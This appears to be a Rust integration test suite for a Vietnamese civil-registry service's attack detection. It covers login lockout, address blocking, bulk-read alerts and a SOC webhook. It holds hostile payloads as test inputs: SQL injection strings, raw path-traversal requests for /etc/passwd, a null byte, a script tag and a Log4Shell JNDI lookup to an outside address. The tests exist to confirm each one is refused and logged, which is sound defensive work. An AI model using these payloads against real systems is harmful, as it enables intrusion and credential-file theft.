//! Attack detection (issue 8, item 2) over real HTTP, on both engines: bad passwords lock the
//! account and, from one address, block it; injection and traversal payloads are refused with a
//! 4xx and recorded; Vietnamese searches and ordinary forms are not; a 403 outside jurisdiction
//! and bulk reading of records are recorded; the SOC webhook gets the alert through the
//! exchange; the security page and API; the page at phone size in Chromium.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use reqwest::Method;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::sync::watch;
use tuphap_domain::security::SecurityPolicy;
use tuphap_exchange::dispatch::{DispatchConfig, Dispatcher};
use tuphap_store::Engine;
use tuphap_store::exchange::RetryPolicy;
use tuphap_store::security::{SecurityEventFilter, SecurityEventRow};

use crate::api_civil::{actors, declare_and_register};
use crate::browser::{Driver, run_in_browser};
use crate::support::{PASSWORD, TestApp, login_as, spawn_app_on, spawn_app_with};

async fn events(app: &TestApp) -> Vec<SecurityEventRow> {
    app.store
        .security_events(&SecurityEventFilter {
            limit: 1000,
            ..SecurityEventFilter::default()
        })
        .await
        .unwrap()
}

fn kinds(ev: &[SecurityEventRow], category: &str, kind: &str) -> usize {
    ev.iter()
        .filter(|e| e.category == category && e.kind == kind)
        .count()
}

async fn engines() -> Vec<Engine> {
    let mut v = vec![Engine::Sqlite];
    if tuphap_testkit::pg_server_url().is_some() {
        v.push(Engine::Postgres);
    }
    v
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn twenty_bad_passwords_from_one_address_lock_out_and_block_it() {
    for engine in engines().await {
        let app = spawn_app_on(engine).await.unwrap();
        app.add_user("canbo.khoa", "officer", "00004").await;
        let login = |user: String| {
            let app = &app;
            async move {
                let r = app
                    .client
                    .post(app.at("/api/v1/auth/login"))
                    .json(&json!({"username": user, "password": "sai-mat-khau"}))
                    .send()
                    .await
                    .unwrap();
                let status = r.status().as_u16();
                let retry = r
                    .headers()
                    .get("retry-after")
                    .map(|v| v.to_str().unwrap().to_string());
                let body: Value = r.json().await.unwrap_or(Value::Null);
                (status, retry, body)
            }
        };
        // Six on one account (locked at the fifth), then fourteen other accounts from the
        // same address: twenty bad passwords.
        for i in 1..=20 {
            let user = if i <= 6 {
                "canbo.khoa".to_string()
            } else {
                format!("khach{i}")
            };
            let (status, _, body) = login(user).await;
            assert!(status < 500, "{body}");
            match i {
                1..=4 => assert_eq!(
                    (status, body["code"].as_str()),
                    (401, Some("auth_invalid_credentials"))
                ),
                5 | 6 => assert_eq!((status, body["code"].as_str()), (429, Some("auth_locked"))),
                _ => assert_eq!(status, 401, "{body}"),
            }
        }
        // The address is blocked now, for every path but the operations endpoints.
        let (status, retry, body) = login("canbo.khoa".into()).await;
        assert_eq!(
            (status, body["code"].as_str()),
            (429, Some("source_blocked"))
        );
        assert!(retry.unwrap().parse::<u64>().unwrap() > 60);
        assert!(
            body["message"]
                .as_str()
                .unwrap()
                .contains("tạm thời bị chặn"),
            "{body}"
        );
        let r = app.client.get(app.at("/")).send().await.unwrap();
        assert_eq!(r.status(), 429);
        assert!(r.text().await.unwrap().contains("tạm thời bị chặn"));
        let r = app.client.get(app.at("/healthz")).send().await.unwrap();
        assert_eq!(r.status(), 200);

        let ev = events(&app).await;
        assert_eq!(kinds(&ev, "unauthorized_access", "bad_credentials"), 20);
        assert_eq!(kinds(&ev, "unauthorized_access", "lockout"), 1);
        assert_eq!(kinds(&ev, "unauthorized_access", "source_blocked"), 1);
        let lockout = ev.iter().find(|e| e.kind == "lockout").unwrap();
        assert_eq!(lockout.actor.as_deref(), Some("canbo.khoa"));
        assert_eq!(lockout.source_ip.as_deref(), Some("127.0.0.1"));
        assert!(ev.iter().all(|e| !e.detail.contains("sai-mat-khau")));
        // The lockout and the block alerted (change-log rows); single bad passwords did not.
        let changes = app.store.changes_after(0, 10_000).await.unwrap();
        let alerts: Vec<_> = changes
            .iter()
            .filter(|c| c.entity == "security_event")
            .collect();
        assert_eq!(alerts.len(), 2, "{alerts:?}");
        assert!(alerts.iter().all(|c| c.action == "unauthorized_access"));
        assert_eq!(app.app.security.blocked_sources().len(), 1);
    }
}

/// Sends `raw` (a whole HTTP/1.1 request) and returns the status code.
async fn raw_status(app: &TestApp, raw: &str) -> u16 {
    let addr = app.url.trim_start_matches("http://");
    let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
    s.write_all(raw.as_bytes()).await.unwrap();
    let mut buf = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(10), s.read_to_end(&mut buf)).await;
    let text = String::from_utf8_lossy(&buf);
    text.split(' ').nth(1).unwrap().parse().unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attack_payloads_are_refused_and_recorded_vietnamese_text_is_not() {
    for engine in engines().await {
        let app = spawn_app_on(engine).await.unwrap();
        app.add_user("quantri", "admin", "BTP").await;
        app.add_user("canbo", "officer", "00004").await;
        let officer = app.token("canbo").await;
        let admin = app.token("quantri").await;
        let browser = login_as(&app, "canbo", "/civil").await;

        // Ordinary use with Vietnamese text: nothing is recorded.
        for q in [
            "Nguyễn Văn An",
            "Trần Thị Ánh Nguyệt",
            "Lê Đức Thọ; Hà Nội",
            "O'Brien",
        ] {
            let (s, v) = app
                .call(
                    Method::GET,
                    &format!("/api/v1/civil/search?q={}", crate::support::encode(q)),
                    Some(&officer),
                    None,
                )
                .await;
            assert!(s < 400, "{q}: {s} {v}");
            let r = browser
                .get(app.at(&format!("/civil/search?q={}", crate::support::encode(q))))
                .send()
                .await
                .unwrap();
            assert!(r.status().as_u16() < 400, "{q}: {}", r.status());
        }
        for path in [
            "/procedures?q=khai+sinh",
            "/indicators?from=01/03/2027&to=31/03/2027",
            "/tools/personal-id?number=001203004567",
            "/login?next=%2Fcivil%2Fsearch%3Fq%3DNguy%E1%BB%85n",
        ] {
            let r = app.client.get(app.at(path)).send().await.unwrap();
            assert!(r.status().as_u16() < 400, "{path}: {}", r.status());
        }
        // A normal form (the personal-ID tool), and a login form post.
        let c = login_as(&app, "quantri", "/").await;
        let r = c.get(app.at("/")).send().await.unwrap();
        assert_eq!(r.status(), 200);
        assert!(
            r.text().await.unwrap().contains("href=\"/security\""),
            "nav entry for admins"
        );
        assert!(events(&app).await.is_empty(), "{:?}", events(&app).await);

        // Attacks: a 4xx, never a 5xx, and an event each.
        let r = app
            .client
            .get(app.at(&format!(
                "/api/v1/civil/search?q={}",
                crate::support::encode("' OR 1=1 --")
            )))
            .bearer_auth(&officer)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 400);
        let v: Value = r.json().await.unwrap();
        assert_eq!(v["code"], "request_rejected");
        assert!(v["message"].as_str().unwrap().contains("từ chối"));
        assert!(v["request_id"].is_string());
        let r = browser
            .get(app.at(&format!(
                "/civil/search?q={}",
                crate::support::encode("x' UNION SELECT password FROM users --")
            )))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 400);
        assert!(r.text().await.unwrap().contains("dấu hiệu tấn công"));
        for (raw, expected) in [
            (
                "GET /../../etc/passwd HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
                400,
            ),
            (
                "GET /static/%2e%2e%2f%2e%2e%2fetc%2fpasswd HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
                400,
            ),
            (
                "GET /civil/search?q=%zz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
                400,
            ),
            (
                "GET /verify?c=abc%00 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
                400,
            ),
        ] {
            assert_eq!(raw_status(&app, raw).await, expected, "{raw}");
        }
        let r = app
            .client
            .get(app.at("/"))
            .header("user-agent", "${jndi:ldap://203.0.113.9/a}")
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 400);

        let ev = events(&app).await;
        assert!(
            ev.iter().all(|e| e.category == "exploitation_attempt"),
            "{ev:?}"
        );
        assert_eq!(kinds(&ev, "exploitation_attempt", "sql_injection"), 2);
        assert_eq!(kinds(&ev, "exploitation_attempt", "path_traversal"), 2);
        assert_eq!(kinds(&ev, "exploitation_attempt", "malformed_protocol"), 1);
        assert_eq!(kinds(&ev, "exploitation_attempt", "null_byte"), 1);
        assert_eq!(kinds(&ev, "exploitation_attempt", "script_injection"), 1);
        let sql = ev.iter().find(|e| e.kind == "sql_injection").unwrap();
        assert!(sql.detail.contains("SQL"));
        assert!(!sql.detail.contains("password"), "no payload stored");
        assert!(
            ev.iter()
                .all(|e| e.request_id.is_some() && e.source_ip.is_some())
        );

        // The API: events and summary for the administrator, with filters.
        let (s, v) = app
            .call(
                Method::GET,
                "/api/v1/security/events?category=exploitation_attempt&limit=3",
                Some(&admin),
                None,
            )
            .await;
        assert_eq!(s, 200, "{v}");
        assert_eq!(v.as_array().unwrap().len(), 3);
        assert_eq!(v[0]["category_label"], "Tấn công khai thác lỗ hổng");
        let (s, v) = app
            .call(
                Method::GET,
                "/api/v1/security/events?category=nope",
                Some(&admin),
                None,
            )
            .await;
        assert_eq!(
            (s, v["code"].as_str()),
            (400, Some("security_category_invalid"))
        );
        let (s, v) = app
            .call(
                Method::GET,
                "/api/v1/security/summary?hours=24",
                Some(&admin),
                None,
            )
            .await;
        assert_eq!(s, 200, "{v}");
        let by_cat = v["by_category"].as_array().unwrap();
        assert_eq!(by_cat.len(), 4);
        assert_eq!(by_cat[0]["category"], "exploitation_attempt");
        assert_eq!(by_cat[0]["count"], 7);
        assert_eq!(v["by_source"][0]["source_ip"], "127.0.0.1");
        assert!(v["blocked"].as_array().unwrap().is_empty());
        // An officer may not: a 403, itself an unauthorized-access event.
        let (s, v) = app
            .call(
                Method::GET,
                "/api/v1/security/summary",
                Some(&officer),
                None,
            )
            .await;
        assert_eq!(s, 403, "{v}");
        let ev = events(&app).await;
        let denied = ev.iter().find(|e| e.kind == "forbidden_record").unwrap();
        assert_eq!(denied.category, "unauthorized_access");
        assert_eq!(denied.actor.as_deref(), Some("canbo"));
        assert_eq!(denied.path.as_deref(), Some("/api/v1/security/summary"));

        // The page.
        let html = c
            .get(app.at("/security"))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert!(html.contains("Sự kiện an ninh"));
        assert!(html.contains("Tấn công khai thác lỗ hổng"));
        assert!(html.contains("sql_injection"));
        let r = browser.get(app.at("/security")).send().await.unwrap();
        assert_eq!(r.status(), 403);

        // Documented.
        let (_, doc) = app.get_json("/api/openapi.json").await;
        for p in ["/api/v1/security/events", "/api/v1/security/summary"] {
            assert!(doc["paths"][p]["get"].is_object(), "{p}");
        }
    }
}

fn birth_body(name: &str) -> Value {
    json!({
        "child": {"full_name": name, "sex": "nam", "date_of_birth": "2026-10-01",
                  "place_of_birth": {"admin_unit_code": "00004", "detail": "Bệnh viện Phụ sản Hà Nội"},
                  "ethnicity_code": "01", "nationality_code": "VN"},
        "mother": {"full_name": "Trần Thị Mai", "date_of_birth": "1995-03-14",
                   "ethnicity_code": "01", "nationality_code": "VN",
                   "residence": {"admin_unit_code": "00004", "detail": "12 phố Quán Thánh"}},
        "declarant": {"full_name": "Trần Thị Mai", "relationship": "mẹ"}
    })
}

/// A receiver of webhooks on 127.0.0.1:0 keeping the bodies it got.
async fn receiver() -> (String, Arc<Mutex<Vec<Value>>>) {
    let got = Arc::new(Mutex::new(Vec::new()));
    let keep = got.clone();
    let router = axum::Router::new().fallback(move |body: axum::body::Bytes| {
        let keep = keep.clone();
        async move {
            if let Ok(v) = serde_json::from_slice::<Value>(&body) {
                keep.lock().unwrap().push(v);
            }
            axum::Json(json!({"status": "ok"}))
        }
    });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/soc", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, router).await });
    (url, got)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn outside_jurisdiction_bulk_reads_and_the_soc_webhook() {
    for engine in engines().await {
        let app = spawn_app_with(engine, |mut state, _| {
            state.app = state.app.clone().with_security_policy(SecurityPolicy {
                bulk_read_threshold: 3,
                ..SecurityPolicy::default()
            });
            state
        })
        .await
        .unwrap();
        let (url, got) = receiver().await;
        app.app
            .exchange_upsert_subscription(
                None,
                &Default::default(),
                serde_json::from_value(json!({
                    "subscriber": "VN/GOV/BCA/SOC", "service": "security-alerts",
                    "takes": "security_event:*", "endpoint_url": url
                }))
                .unwrap(),
            )
            .await
            .unwrap();
        let (stop, stopped) = watch::channel(false);
        drop(
            Dispatcher::new(
                app.app.clone(),
                DispatchConfig {
                    workers: 1,
                    idle_wait: Duration::from_millis(50),
                    policy: RetryPolicy {
                        base: Duration::from_millis(20),
                        cap: Duration::from_millis(200),
                        max_attempts: 1000,
                    },
                    ..DispatchConfig::default()
                },
            )
            .unwrap()
            .spawn(stopped),
        );

        let a = actors(&app).await;
        let (s, v) = declare_and_register(
            &app,
            &a,
            "/api/v1/civil/births",
            &birth_body("Lê Minh Khang"),
        )
        .await;
        assert_eq!(s, 200, "{v}");
        let id = v["id"].as_i64().unwrap();
        // Outside jurisdiction: a 403 and an unauthorized-access event naming the officer.
        let (s, _) = app
            .call(
                Method::GET,
                &format!("/api/v1/civil/records/{id}"),
                Some(&a.other_officer),
                None,
            )
            .await;
        assert_eq!(s, 403);
        // Bulk reading: the third read in the window is reported, once.
        for _ in 0..5 {
            let (s, _) = app
                .call(
                    Method::GET,
                    &format!("/api/v1/civil/records/{id}"),
                    Some(&a.officer),
                    None,
                )
                .await;
            assert_eq!(s, 200);
        }
        // An attack, for the SOC.
        let r = app
            .client
            .get(app.at("/civil/search?q=1%20UNION%20SELECT%201"))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 400);

        let ev = events(&app).await;
        let denied = ev.iter().find(|e| e.kind == "forbidden_record").unwrap();
        assert_eq!(denied.category, "unauthorized_access");
        assert_eq!(denied.actor.as_deref(), Some("canbo.hongha"));
        assert_eq!(kinds(&ev, "other", "bulk_personal_data_read"), 1);
        let bulk = ev
            .iter()
            .find(|e| e.kind == "bulk_personal_data_read")
            .unwrap();
        assert_eq!(bulk.actor.as_deref(), Some("canbo.badinh"));
        assert_eq!(bulk.severity, "high");

        // The SOC receives the three alerts through the exchange.
        let mut waited = 0;
        loop {
            let bodies = got.lock().unwrap().clone();
            let cats: Vec<String> = bodies.iter().map(|b| b.to_string()).collect();
            let has = |c: &str| cats.iter().any(|b| b.contains(c));
            if has("exploitation_attempt")
                && has("bulk_personal_data_read")
                && has("forbidden_record")
            {
                assert!(
                    cats.iter().any(|b| b.contains("security_event")),
                    "{cats:?}"
                );
                break;
            }
            waited += 1;
            assert!(waited < 200, "webhook not delivered: {cats:?}");
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        let _ = stop.send(true);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_page_on_a_phone() {
    run_in_browser(page_run()).await;
}

async fn page_run() {
    let app = spawn_app_on(Engine::Sqlite).await.unwrap();
    app.add_user("bo.anninh", "ministry", "BTP").await;
    for q in [
        "%27%20OR%201%3D1%20--",
        "..%2f..%2fetc%2fpasswd",
        "%3Cscript%3E",
    ] {
        let r = app
            .client
            .get(app.at(&format!("/civil/search?q={q}")))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 400);
    }
    for i in 0..3 {
        let _ = app
            .client
            .post(app.at("/api/v1/auth/login"))
            .json(&json!({"username": format!("khach{i}"), "password": "x"}))
            .send()
            .await
            .unwrap();
    }
    let d = Driver::start().await;
    d.goto(&app.at("/login?next=%2Fsecurity")).await;
    d.settle().await;
    d.type_into("#username", "bo.anninh").await;
    d.type_into("#password", PASSWORD).await;
    d.click("form[action='/login'] button[type=submit]").await;
    d.wait_for(
        "the security page",
        "return document.title.startsWith('Sự kiện an ninh');",
    )
    .await;
    d.settle().await;
    let main = d.text("main").await;
    assert!(main.contains("Tấn công khai thác lỗ hổng"), "{main}");
    assert!(main.contains("Truy cập trái phép"), "{main}");
    assert!(main.contains("127.0.0.1"), "{main}");
    d.screenshot("security").await;
    d.assert_no_horizontal_overflow("security").await;
}
